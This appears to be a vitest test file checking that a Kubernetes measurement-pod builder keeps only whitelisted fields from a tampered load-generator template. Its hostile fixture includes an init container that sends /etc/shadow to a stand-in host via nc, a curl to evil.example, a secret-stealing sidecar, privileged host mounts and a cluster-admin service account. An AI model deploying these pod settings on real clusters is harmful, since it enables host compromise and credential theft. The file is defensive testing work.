import type { V1PodTemplateSpec } from "@kubernetes/client-node";
import { ZMethodology } from "@meshbench/contracts";
import { describe, expect, it } from "vitest";
import { fortioRunBody } from "../fortio/run-request";
import { LABELS, LOAD_CONTAINER } from "./labels";
import {
  buildLoadGeneratorDeployment,
  LOAD_GENERATOR_PLACEMENT,
  LOAD_GENERATOR_POD_METADATA_KEYS,
} from "./load-generator";
import { buildMeasurementPod, MEASURED_LOAD_CONTAINER } from "./measurement-pod";

// The measurement pod is built from the load-generator Deployment as the cluster holds it, which
// anyone who may edit Deployments in the namespace (or a mutating webhook) can change.
const methodology = ZMethodology.parse({
  placement: { loadGeneratorNodeSelector: { pool: "load" } },
  loadGeneratorResources: { requests: { cpu: "500m" }, limits: { cpu: "1", memory: "256Mi" } },
  loadGenerators: 2,
  rateSeries: true,
});
const body = fortioRunBody(
  {
    coordinates: {
      variant: "v",
      requestedQps: 250,
      connections: 4,
      payloadBytes: 0,
      protocol: "http1",
      keepAlive: true,
      repetition: 1,
    },
    durationSeconds: 10,
    fortio: methodology.fortio,
    url: "http://echo.mb-r1-v.svc.cluster.local:8080/echo",
    label: "r1/t3-abcdef12",
    headers: [],
  },
  { save: false, async: false },
);

describe("a measurement pod from a Deployment someone tampered with", () => {
  const clean = buildLoadGeneratorDeployment({
    runId: "r1",
    variant: "v",
    namespace: "mb-r1-v",
    methodology,
    inMesh: true,
  }).spec!.template;
  const fortio = clean.spec!.containers[0]!;
  const mount = { name: "host", mountPath: "/hostroot" };
  // Everything a namespace editor or a mutating webhook could have put into the live template.
  const hostile: V1PodTemplateSpec = {
    metadata: {
      labels: { ...clean.metadata!.labels, app: "echo", "extra.example/owner": "mallory" },
      annotations: {
        ...clean.metadata!.annotations,
        "sidecar.istio.io/userVolume": '[{"name":"host","hostPath":{"path":"/"}}]',
        "sidecar.istio.io/userVolumeMount": '[{"name":"host","mountPath":"/host"}]',
        "sidecar.istio.io/proxyImage": "evil.example/proxy:latest",
        "config.linkerd.io/proxy-image": "evil.example/linkerd",
        "proxy.istio.io/config": "proxyMetadata: {ISTIO_META_EVIL: 'yes'}",
      },
    },
    spec: {
      ...clean.spec!,
      initContainers: [
        {
          name: "pwn",
          image: "busybox",
          command: ["sh", "-c", "cat /hostroot/etc/shadow | nc evil.example 80"],
          securityContext: { privileged: true },
          volumeMounts: [mount],
        },
      ],
      containers: [
        {
          ...fortio,
          command: ["/bin/sh", "-c", "curl evil.example"],
          env: [{ name: "TOKEN", value: "hunter2" }],
          envFrom: [{ secretRef: { name: "db-credentials" } }],
          securityContext: {
            privileged: true,
            allowPrivilegeEscalation: true,
            capabilities: { add: ["SYS_ADMIN", "NET_ADMIN"] },
            runAsUser: 0,
          },
          volumeMounts: [mount],
          resources: {
            ...fortio.resources,
            limits: { ...fortio.resources!.limits, "hugepages-2Mi": "1Gi" },
            claims: [{ name: "gpu" }],
          },
        },
        {
          name: "exfiltrate",
          image: "evil.example/sidecar",
          env: [
            {
              name: "PASSWORD",
              valueFrom: { secretKeyRef: { name: "db-credentials", key: "password" } },
            },
          ],
        },
      ],
      ephemeralContainers: [{ name: "debug", image: "busybox" }],
      hostNetwork: true,
      hostPID: true,
      hostIPC: true,
      hostUsers: true,
      shareProcessNamespace: true,
      serviceAccountName: "cluster-admin-sa",
      serviceAccount: "cluster-admin-sa",
      automountServiceAccountToken: true,
      securityContext: { runAsUser: 0, runAsNonRoot: false },
      volumes: [{ name: "host", hostPath: { path: "/" } }],
      nodeName: "control-plane-1",
      tolerations: [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists" }],
      priorityClassName: "system-node-critical",
      runtimeClassName: "unconfined",
      schedulerName: "evil-scheduler",
      dnsPolicy: "None",
      dnsConfig: { nameservers: ["203.0.113.1"] },
      hostAliases: [{ ip: "203.0.113.1", hostnames: ["kubernetes.default.svc"] }],
      imagePullSecrets: [{ name: "registry-credentials" }],
      resourceClaims: [{ name: "gpu", resourceClaimName: "gpu" }],
    },
  };
  const pod = buildMeasurementPod(hostile, {
    namespace: "mb-r1-v",
    trial: "t3-abcdef12",
    index: 0,
    body,
  });
  const json = JSON.stringify(pod);

  it("carries none of it: its spec is the whitelist, nothing of the template's beyond placement", () => {
    expect(Object.keys(pod.spec!).sort()).toEqual([
      "affinity",
      "automountServiceAccountToken",
      "containers",
      "nodeSelector",
      "restartPolicy",
      "terminationGracePeriodSeconds",
      "topologySpreadConstraints",
      "volumes",
    ]);
    expect(pod.spec!.automountServiceAccountToken).toBe(false);
    expect(pod.spec!.volumes).toEqual([{ name: "data", emptyDir: { sizeLimit: "1Gi" } }]);
    expect(pod.spec!.containers.map((c) => c.name)).toEqual([
      MEASURED_LOAD_CONTAINER,
      LOAD_CONTAINER,
    ]);
    for (const c of pod.spec!.containers) {
      expect(Object.keys(c).every((k) => ["name", "image", "args", "ports", "volumeMounts", "resources"].includes(k))).toBe(true); // prettier-ignore
      expect(c.volumeMounts).toEqual([{ name: "data", mountPath: "/data" }]);
    }
    const planted = ["cluster-admin-sa", "hunter2", "db-credentials", "evil", "pwn", "busybox"];
    const more = ["hugepages", "hostPath", "/hostroot", "203.0.113.1", "control-plane", "mallory"];
    for (const word of [...planted, ...more]) expect(json).not.toContain(word);
  });

  it("keeps what places it, joins the mesh, its image and sizing, and the builder's own keys", () => {
    expect(pod.spec!.nodeSelector).toEqual({ pool: "load" });
    expect(pod.spec!.affinity).toEqual(clean.spec!.affinity);
    expect(pod.spec!.affinity?.podAntiAffinity).toBeDefined();
    expect(pod.spec!.topologySpreadConstraints).toEqual(clean.spec!.topologySpreadConstraints);
    expect(pod.spec!.topologySpreadConstraints).toHaveLength(1);
    expect(pod.spec!.containers[0]!.image).toBe(methodology.fortio.image);
    expect(pod.spec!.containers[0]!.resources).toEqual(fortio.resources);
    expect(pod.metadata!.labels).toEqual({ ...clean.metadata!.labels, [LABELS.trial]: "t3-abcdef12" }); // prettier-ignore
    expect(pod.metadata!.annotations).toEqual({
      ...clean.metadata!.annotations,
      "proxy.istio.io/config": "holdApplicationUntilProxyStarts: true",
    });
    expect(Object.keys(clean.metadata!.annotations!).length).toBeGreaterThan(0);
  });

  it("its builder's template names only keys it may copy, and mounts no token either", () => {
    for (const inMesh of [true, false]) {
      const t = buildLoadGeneratorDeployment({ runId: "r1", variant: "v", namespace: "n", methodology, inMesh }).spec!.template; // prettier-ignore
      for (const k of Object.keys(t.metadata!.labels!))
        expect(LOAD_GENERATOR_POD_METADATA_KEYS.labels).toContain(k);
      for (const k of Object.keys(t.metadata!.annotations!))
        expect(LOAD_GENERATOR_POD_METADATA_KEYS.annotations).toContain(k);
      const placed = Object.keys(t.spec!).filter((k) => !["containers", "automountServiceAccountToken"].includes(k)); // prettier-ignore
      expect(LOAD_GENERATOR_PLACEMENT).toEqual(expect.arrayContaining(placed));
      expect(t.spec!.automountServiceAccountToken).toBe(false);
    }
  });
});
